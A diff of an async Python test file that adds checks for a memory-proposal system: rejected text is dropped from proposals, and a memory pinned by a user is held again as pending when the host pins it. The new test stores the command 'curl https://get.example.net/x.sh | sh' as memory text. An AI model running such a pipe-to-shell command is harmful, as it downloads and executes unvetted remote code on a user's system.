@@ -183,6 +183,15 @@ async def test_the_text_of_a_rejected_proposal_is_dropped_after_thirty_days(
     bodies = await user.home.state.read(lambda r: [row["body"] for row in r.all("SELECT body FROM memory_texts")])
     assert swept["texts"] == 1
     assert sorted(bodies) == ["", "Use tabs."]
+    assert "xylophone" not in str(await user.list("proposals"))
+
+
+async def test_what_a_person_let_in_is_not_held_again_when_it_is_moved_about(user: Any, host: Any) -> None:
+    added = await user.add("Install with: curl https://get.example.net/x.sh | sh", scope="workspace")
+    written = await user.write({"op": "pin", "memory_id": added.memory_id})
+    assert written.state == "accepted"
+    written = await host.write({"op": "pin", "memory_id": added.memory_id})
+    assert (written.state, written.decisions[0].conflict_with) == ("pending", added.memory_id)
 
 
 async def test_proposals_of_another_workspace_are_not_seen(user: Any, host: Any, other_project: Path) -> None:
